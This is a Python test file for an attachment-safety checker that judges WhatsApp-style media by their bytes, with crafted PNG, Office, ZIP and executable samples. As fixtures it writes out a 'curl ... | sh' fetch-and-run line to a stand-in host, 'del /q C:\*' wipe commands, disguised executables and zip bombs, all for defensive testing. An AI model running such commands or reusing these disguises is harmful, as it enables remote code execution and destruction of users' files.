"""Attachments are judged by their bytes: real small files built here, never the sender's word."""

import hashlib
import io
import struct
import time
import uuid
import zipfile
import zlib

import pytest

from conversations.media_safety import DEFAULT_LIMITS, MAX_ARCHIVE_MEMBERS, inspect_media
from tests.conftest import load_fixture

# ------------------------------------------------------------------------------ real small files


def _id(value: object) -> str:
    """Readable test ids: strings as they are, files by their type ("bytes", "dict")."""
    return value if isinstance(value, str) else type(value).__name__


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


# A valid 1x1 8-bit RGB PNG: signature, IHDR, one compressed scanline, IEND.
PNG = (
    b"\x89PNG\r\n\x1a\n"
    + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    + _png_chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
    + _png_chunk(b"IEND", b"")
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
PDF = b"%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(24)
# One Ogg page (27-byte header + a 1-entry segment table) carrying the 19-byte OpusHead packet.
OPUS_HEAD = b"OpusHead\x01\x01\x38\x01\x80\xbb\x00\x00\x00\x00\x00"
OGG_OPUS = b"OggS\x00\x02" + bytes(8) + b"\x01\x00\x00\x00" + bytes(8) + b"\x01\x13" + OPUS_HEAD
MP3 = b"ID3\x03\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x64" + bytes(40)
AMR = b"#!AMR\n" + b"\x3c" + bytes(31)
AAC = b"\xff\xf1\x50\x80\x02\x1f\xfc" + bytes(16)


def _ftyp(brand: bytes) -> bytes:
    return struct.pack(">I", 24) + b"ftyp" + brand + b"\x00\x00\x02\x00" + brand + b"isom"


MP4, M4A, THREE_GP = _ftyp(b"isom"), _ftyp(b"M4A "), _ftyp(b"3gp4")
PE = b"MZ\x90\x00" + bytes(56) + struct.pack("<I", 64) + b"PE\x00\x00\x4c\x01" + bytes(64)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24)
JAVA_CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(16)
SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
TEXT = "Olá, segue o comprovante do pagamento da fatura de março.\n".encode()
CSV = "contrato;nome;valor\n1234;João;99,90\n".encode("cp1252")  # as Excel exports it in Brazil


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _encrypted_flag(data: bytes) -> bytes:
    """Set the "encrypted" bit that zipfile will not write, in the local and central headers."""
    patched = bytearray(data)
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = patched.find(signature)
        patched[at + flag_offset] |= 0x1
    return bytes(patched)


def _ole(*, root_clsid: bytes = bytes(16), stream: str = "") -> bytes:
    """An OLE2 compound file: 512-byte header, then the directory sector (root entry, one stream)."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HH", header, 26, 3, 0xFFFE)  # major version 3, little-endian
    struct.pack_into("<H", header, 30, 9)  # 512-byte sectors
    struct.pack_into("<i", header, 48, 0)  # the directory starts at sector 0

    def entry(name: str, clsid: bytes = bytes(16)) -> bytes:
        raw = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        raw[: len(encoded)] = encoded
        struct.pack_into("<H", raw, 64, len(encoded))
        raw[80:96] = clsid
        return bytes(raw)

    directory = entry("Root Entry", root_clsid) + (entry(stream) if stream else b"")
    return bytes(header) + directory.ljust(512, b"\x00")


DOCX = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
XLSX = _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
PPTX = _zip({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p:presentation/>"})
ODT = _zip({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office/>"})
ODS = _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<office/>"})
MSI_CLSID = uuid.UUID("000c1084-0000-0000-c000-000000000046").bytes_le

# ------------------------------------------------------------------------------ accepted


@pytest.mark.parametrize(
    ("message_type", "content", "mime", "extension"),
    [
        ("image", PNG, "image/png", "png"),
        ("image", JPEG, "image/jpeg", "jpg"),
        ("image", WEBP, "image/webp", "webp"),
        ("audio", OGG_OPUS, "audio/ogg", "ogg"),
        ("audio", MP3, "audio/mpeg", "mp3"),
        ("audio", M4A, "audio/mp4", "m4a"),
        ("audio", AAC, "audio/aac", "aac"),
        ("audio", AMR, "audio/amr", "amr"),
        ("audio", MP4, "video/mp4", "mp4"),  # audio-only .mp4 from Android recorders
        ("video", MP4, "video/mp4", "mp4"),
        ("video", THREE_GP, "video/3gpp", "3gp"),
        ("sticker", WEBP, "image/webp", "webp"),
        ("document", PDF, "application/pdf", "pdf"),
        ("document", TEXT, "text/plain", "txt"),
        ("document", CSV, "text/plain", "txt"),
        ("document", DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "docx"),
        ("document", XLSX, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx"),
        ("document", PPTX, "application/vnd.openxmlformats-officedocument.presentationml.presentation", "pptx"),
        ("document", ODT, "application/vnd.oasis.opendocument.text", "odt"),
        ("document", ODS, "application/vnd.oasis.opendocument.spreadsheet", "ods"),
        ("document", _ole(stream="WordDocument"), "application/msword", "doc"),
        ("document", _ole(stream="Workbook"), "application/vnd.ms-excel", "xls"),
        ("document", _ole(stream="PowerPoint Document"), "application/vnd.ms-powerpoint", "ppt"),
        ("document", JPEG, "image/jpeg", "jpg"),
        ("document", _zip({"comprovante.txt": TEXT, "fotos/roteador.png": PNG}), "application/zip", "zip"),
    ],
    ids=_id,
)
def test_every_allowed_type_is_accepted_for_its_message_type(message_type, content, mime, extension):
    verdict = inspect_media(content, message_type=message_type)
    assert (verdict.allowed, verdict.reason, verdict.detail) == (True, "", "")
    assert (verdict.category, verdict.detected_mime, verdict.extension) == (message_type, mime, extension)


def test_type_comes_from_the_bytes_not_the_declared_mime_or_filename():
    verdict = inspect_media(PDF, message_type="document", declared_mime="image/jpeg", filename="foto.jpg")
    assert verdict.allowed
    assert (verdict.detected_mime, verdict.extension) == ("application/pdf", "pdf")


def test_sha256_and_size_are_always_computed():
    for content in (PNG, PE, b""):
        verdict = inspect_media(content, message_type="image")
        assert verdict.sha256 == hashlib.sha256(content).hexdigest()
        assert verdict.size == len(content)


# ------------------------------------------------------------------------------ programs and scripts


@pytest.mark.parametrize(
    ("content", "filename"),
    [(PE, "photo.jpg"), (ELF, "foto.png"), (MACH_O, "imagem.jpeg"), (JAVA_CLASS, "a.jpg")],
    ids=_id,
)
@pytest.mark.parametrize("message_type", ["image", "document", "audio"])
def test_executables_are_refused_as_executable_whatever_the_message_type(content, filename, message_type):
    verdict = inspect_media(content, message_type=message_type, declared_mime="image/jpeg", filename=filename)
    assert (verdict.allowed, verdict.reason) == (False, "executable")


def test_msi_installer_is_refused_although_it_shares_the_office_container():
    verdict = inspect_media(_ole(root_clsid=MSI_CLSID), message_type="document", filename="boleto.doc")
    assert (verdict.reason, verdict.detected_mime) == ("executable", "application/x-msi")


def test_evolution_exe_disguised_as_pdf_is_refused():
    document = load_fixture("evolution/messages_upsert_document_exe_disguised.json")["data"]["message"]
    document = document["documentMessage"]
    assert "base64" not in document  # metadata only: the bytes are crafted, the declared values are real
    verdict = inspect_media(
        PE, message_type="document", declared_mime=document["mimetype"], filename=document["fileName"]
    )
    assert (verdict.allowed, verdict.reason, verdict.category) == (False, "executable", "")
    assert "application/pdf" in verdict.detail


@pytest.mark.parametrize(
    ("content", "filename"),
    [
        (SHELL, "nota.txt"),
        (b"@echo off\r\ndel /q C:\\*\r\n", "leia.txt"),
        (b"<html><script>location='http://example.invalid'</script></html>", "fatura.html"),
        (b"del /q C:\\Users\\*\r\n", "limpeza.bat"),  # plain text, but Windows runs .bat files
        (b"Write-Host oi\n", "script.PS1"),
        (b"MsgBox 1\n", "fatura.pdf.vbs. "),  # Windows drops the trailing dot and space
    ],
    ids=_id,
)
def test_scripts_are_refused_by_content_or_by_a_text_files_script_name(content, filename):
    verdict = inspect_media(content, message_type="document", declared_mime="text/plain", filename=filename)
    assert (verdict.allowed, verdict.reason) == (False, "script")


def test_executable_wins_over_a_type_mismatch_and_a_size_limit():
    verdict = inspect_media(PE + bytes(2000), message_type="sticker", limits={"sticker": 100})
    assert verdict.reason == "executable"


# ------------------------------------------------------------------------------ archives


@pytest.mark.parametrize(
    "members",
    [
        {"leia-me.txt": PE},  # an executable renamed .txt: caught by its first bytes
        {"docs/fatura.pdf.exe": PDF},  # caught by its name, whatever it holds
        {"instalar.txt": SHELL},
        {"pasta.zip": _zip({"dentro.txt": PE})},  # nested archives are opened too
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", "word/vbaProject.bin": b"macro"},
    ],
    ids=_id,
)
def test_archive_hiding_a_program_script_or_macro_is_refused(members):
    verdict = inspect_media(_zip(members), message_type="document", filename="documentos.zip")
    assert (verdict.allowed, verdict.reason) == (False, "archive_with_executable")


@pytest.mark.parametrize(
    "members",
    [
        {"META-INF/MANIFEST.MF": b"Main-Class: App\n", "App.class": JAVA_CLASS},  # a JAR
        {"AndroidManifest.xml": b"\x03\x00\x08\x00", "classes.dex": b"dex\n035\x00" + bytes(32)},  # an APK
    ],
    ids=_id,
)
def test_java_and_android_packages_are_refused_for_the_code_they_hold(members):
    verdict = inspect_media(_zip(members), message_type="document", filename="boleto.pdf")
    assert (verdict.allowed, verdict.reason) == (False, "archive_with_executable")


def test_encrypted_archive_is_refused_because_it_cannot_be_checked():
    verdict = inspect_media(_encrypted_flag(_zip({"fatura.txt": TEXT})), message_type="document")
    assert (verdict.allowed, verdict.reason) == (False, "encrypted_archive")


def test_archive_holding_an_archive_we_cannot_open_is_refused():
    verdict = inspect_media(_zip({"fotos.dat": RAR}), message_type="document")
    assert (verdict.allowed, verdict.reason) == (False, "not_allowed")


def test_archives_nested_too_deeply_are_refused():
    archive = TEXT
    for depth in range(6):
        archive = _zip({f"nivel{depth}.zip" if depth else "leia.txt": archive})
    assert inspect_media(archive, message_type="document").reason == "not_allowed"


def test_damaged_archive_is_refused():
    verdict = inspect_media(b"PK\x03\x04" + bytes(100), message_type="document")
    assert (verdict.allowed, verdict.reason) == (False, "not_allowed")


def test_zip_bomb_is_refused_without_being_decompressed():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros.txt", "w") as member:
        for _ in range(60):
            member.write(bytes(1024 * 1024))
    started = time.perf_counter()
    verdict = inspect_media(buffer.getvalue(), message_type="document")
    assert time.perf_counter() - started < 0.5
    assert (verdict.allowed, verdict.reason) == (False, "too_large")


def test_zip_declaring_a_huge_member_is_refused_quickly():
    data = bytearray(_zip({"fatura.txt": TEXT}))
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 0xFFFF_FFF0)  # declares almost 4 GB uncompressed
    started = time.perf_counter()
    verdict = inspect_media(bytes(data), message_type="document")
    assert time.perf_counter() - started < 0.5
    assert verdict.reason == "too_large"


def test_zip_with_too_many_members_is_refused():
    archive = _zip({f"{index}.txt": b"" for index in range(MAX_ARCHIVE_MEMBERS + 1)})
    assert inspect_media(archive, message_type="document").reason == "too_large"


def test_zip_lying_about_its_entry_count_is_refused_before_parsing():
    data = bytearray(_zip({f"{index}.txt": b"" for index in range(25_000)}))
    end = data.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", data, end + 8, 1, 1)  # claims one entry; the directory still holds 25,000
    started = time.perf_counter()
    assert inspect_media(bytes(data), message_type="document").reason == "too_large"
    assert time.perf_counter() - started < 0.1


# ------------------------------------------------------------------------------ wrong, unknown or too big


@pytest.mark.parametrize(
    ("content", "message_type", "category"),
    [
        (PDF, "image", "document"),
        (PNG, "sticker", "image"),
        (OGG_OPUS, "video", "audio"),
        (TEXT, "image", "document"),
        (MP4, "image", "video"),
    ],
    ids=_id,
)
def test_content_of_another_category_is_a_type_mismatch(content, message_type, category):
    verdict = inspect_media(content, message_type=message_type)
    assert (verdict.allowed, verdict.reason, verdict.category) == (False, "type_mismatch", category)


@pytest.mark.parametrize(
    ("content", "message_type"),
    [
        (GIF, "image"),
        (GIF, "document"),
        (RAR, "document"),
        (b"{\\rtf1\\ansi ola}", "document"),
        (_ole(), "document"),
        (_ftyp(b"heic"), "video"),
    ],
    ids=_id,
)
def test_types_whatsapp_does_not_carry_are_not_allowed(content, message_type):
    verdict = inspect_media(content, message_type=message_type)
    assert (verdict.allowed, verdict.reason) == (False, "not_allowed")


def test_unknown_bytes_are_refused():
    verdict = inspect_media(bytes(range(1, 9)) * 16, message_type="document", declared_mime="application/pdf")
    assert (verdict.allowed, verdict.reason, verdict.detected_mime, verdict.category) == (
        False,
        "unknown_type",
        "",
        "",
    )


def test_empty_content_is_refused():
    verdict = inspect_media(b"", message_type="image", declared_mime="image/jpeg", filename="foto.jpg")
    assert (verdict.allowed, verdict.reason, verdict.size) == (False, "empty", 0)


@pytest.mark.parametrize(
    ("message_type", "header"),
    [("image", PNG), ("audio", OGG_OPUS), ("video", MP4), ("sticker", WEBP), ("document", PDF)],
    ids=_id,
)
def test_content_over_the_meta_limit_for_its_message_type_is_too_large(message_type, header):
    limit = DEFAULT_LIMITS[message_type]
    assert inspect_media(header.ljust(limit, b"\x00"), message_type=message_type).allowed
    verdict = inspect_media(header.ljust(limit + 1, b"\x00"), message_type=message_type)
    assert (verdict.allowed, verdict.reason) == (False, "too_large")


def test_limits_can_be_overridden_per_message_type():
    content = PNG.ljust(2000, b"\x00")
    assert inspect_media(content, message_type="image", limits={"image": 1000}).reason == "too_large"
    big = PNG.ljust(6 * 1024 * 1024, b"\x00")
    assert inspect_media(big, message_type="image", limits={"image": 10 * 1024 * 1024}).allowed
    assert inspect_media(big, message_type="image", limits={"document": 10 * 1024 * 1024}).reason == "too_large"
